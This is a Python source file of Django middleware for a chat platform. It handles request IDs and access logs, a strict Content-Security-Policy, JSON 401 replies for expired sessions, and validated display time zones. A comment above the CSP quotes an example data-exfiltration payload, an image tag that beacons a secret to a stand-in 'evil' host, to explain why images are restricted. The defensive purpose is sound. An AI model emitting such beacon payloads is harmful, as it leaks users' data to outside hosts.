"""Request context (request id, user id, access log), the Content-Security-Policy, and the
reader's time zone for display."""

from __future__ import annotations

import re
import time
import uuid
import zoneinfo
from functools import cache
from urllib.parse import urlsplit

import structlog
from asgiref.sync import iscoroutinefunction, markcoroutinefunction
from django.conf import settings
from django.http import HttpRequest, HttpResponse, JsonResponse
from django.shortcuts import resolve_url
from django.utils import timezone

from chatplatform import tracing
from ops import metrics

log = structlog.get_logger("chatplatform.access")

_REQUEST_ID_RE = re.compile(r"^[A-Za-z0-9._-]{1,128}$")

# No inline script anywhere; images only from this site (so model output cannot
# beacon data out through <img src=https://evil/?q=secret>); no framing.
CONTENT_SECURITY_POLICY = "; ".join(
    [
        "default-src 'self'",
        "script-src 'self'",
        "style-src 'self'",
        "img-src 'self'",
        "connect-src 'self'",
        "font-src 'self'",
        "object-src 'none'",
        "base-uri 'none'",
        "form-action 'self'",
        "frame-ancestors 'none'",
    ]
)


def _request_id(request: HttpRequest) -> str:
    given = request.headers.get("X-Request-ID", "")
    return given if _REQUEST_ID_RE.match(given) else uuid.uuid4().hex


class HybridMiddleware:
    """Middleware that runs natively in both sync (tests, WSGI) and async (daphne) stacks."""

    sync_capable = True
    async_capable = True

    def __init__(self, get_response):
        self.get_response = get_response
        if iscoroutinefunction(get_response):
            markcoroutinefunction(self)


class RequestContextMiddleware(HybridMiddleware):
    """Bind a request id (taken from X-Request-ID or made) to every log line of
    the request, echo it back, log one access line and count the request."""

    def _start(self, request: HttpRequest) -> tuple[str, float]:
        structlog.contextvars.clear_contextvars()
        request_id = _request_id(request)
        request.request_id = request_id
        structlog.contextvars.bind_contextvars(request_id=request_id)
        # The request's span (the Django instrumentation's, outside this middleware)
        # carries the id the logs and the response carry.
        tracing.set_attributes(request_id=request_id)
        return request_id, time.perf_counter()

    def _finish(self, request: HttpRequest, response: HttpResponse, request_id: str, started: float) -> None:
        response["X-Request-ID"] = request_id
        user = getattr(request, "user", None)
        if user is not None and user.is_authenticated:
            structlog.contextvars.bind_contextvars(user_id=user.pk)
            tracing.set_attributes(user_id=user.pk)
        duration_ms = round((time.perf_counter() - started) * 1000, 1)
        metrics.HTTP_REQUESTS.labels(method=request.method, status=str(response.status_code)).inc()
        log.info(
            "request_finished",
            method=request.method,
            path=request.path,
            status=response.status_code,
            duration_ms=duration_ms,
        )
        structlog.contextvars.clear_contextvars()

    def __call__(self, request: HttpRequest):
        if iscoroutinefunction(self):
            return self.__acall__(request)
        request_id, started = self._start(request)
        response = self.get_response(request)
        self._finish(request, response, request_id, started)
        return response

    async def __acall__(self, request: HttpRequest):
        request_id, started = self._start(request)
        response = await self.get_response(request)
        self._finish(request, response, request_id, started)
        return response


class ContentSecurityPolicyMiddleware(HybridMiddleware):
    """Set a strict CSP on every response that does not set its own."""

    def __call__(self, request: HttpRequest):
        if iscoroutinefunction(self):
            return self.__acall__(request)
        response = self.get_response(request)
        response.setdefault("Content-Security-Policy", CONTENT_SECURITY_POLICY)
        return response

    async def __acall__(self, request: HttpRequest):
        response = await self.get_response(request)
        response.setdefault("Content-Security-Policy", CONTENT_SECURITY_POLICY)
        return response


class SessionEndedJsonMiddleware(HybridMiddleware):
    """A page's fetch (Accept: application/json) that would be sent to the login page
    gets 401 and a JSON error instead: a redirect followed by fetch looks like success,
    so a form saved after the session ended would say "Saved" when nothing was."""

    def _answer(self, request: HttpRequest, response: HttpResponse) -> HttpResponse:
        if response.status_code in {301, 302} and "application/json" in request.headers.get("Accept", ""):
            login = resolve_url(settings.LOGIN_URL)
            if urlsplit(response.get("Location", "")).path == login:
                return JsonResponse(
                    {"error": {"code": "session_ended", "message": "Your session has ended. Log in again."}},
                    status=401,
                )
        return response

    def __call__(self, request: HttpRequest):
        if iscoroutinefunction(self):
            return self.__acall__(request)
        return self._answer(request, self.get_response(request))

    async def __acall__(self, request: HttpRequest):
        return self._answer(request, await self.get_response(request))


@cache
def _known_zones() -> frozenset[str]:
    return frozenset(zoneinfo.available_timezones())


def display_zone(name: str) -> zoneinfo.ZoneInfo | None:
    """The IANA zone called `name`, or None for anything that is not one of them
    (a cookie is the browser's word: only names the system's zone database lists)."""
    if not name or len(name) > 64 or name not in _known_zones():
        return None
    return zoneinfo.ZoneInfo(name)


class TimeZoneMiddleware(HybridMiddleware):
    """Render dates in the reader's time zone: the one their browser names in the
    `TIME_ZONE_COOKIE` cookie (set by static/js/timezone.js), else TIME_ZONE (UTC).

    For display only (the sidebar's date groups, server-rendered times): quotas,
    the daily budget's midnight and everything stored stay in UTC.
    """

    def _activate(self, request: HttpRequest) -> None:
        zone = display_zone(request.COOKIES.get(settings.TIME_ZONE_COOKIE, ""))
        if zone is None:
            timezone.deactivate()
        else:
            timezone.activate(zone)

    def __call__(self, request: HttpRequest):
        if iscoroutinefunction(self):
            return self.__acall__(request)
        self._activate(request)
        try:
            return self.get_response(request)
        finally:
            timezone.deactivate()

    async def __acall__(self, request: HttpRequest):
        self._activate(request)
        try:
            return await self.get_response(request)
        finally:
            timezone.deactivate()
